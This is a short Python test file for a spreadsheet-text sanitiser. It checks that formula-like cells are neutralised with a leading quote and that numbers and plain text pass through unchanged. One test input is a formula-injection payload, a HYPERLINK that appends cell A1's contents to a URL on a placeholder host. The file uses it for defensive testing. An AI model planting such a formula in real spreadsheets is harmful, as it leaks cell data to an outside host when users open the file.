"""The one rule of text a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest

from stars.domain.spreadsheet_text import inert, runs_as_formula

ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1", "-", "+"]
)
def test_formulas_are_quoted(text):
    assert runs_as_formula(text)
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-853592.0", "-853592.00", "+44", "-0.125", "1.5E+3", "-2e-3", "R000005", "", "a=b"]
)
def test_numbers_and_ordinary_text_are_unchanged(text):
    assert not runs_as_formula(text)
    assert inert(text) == text
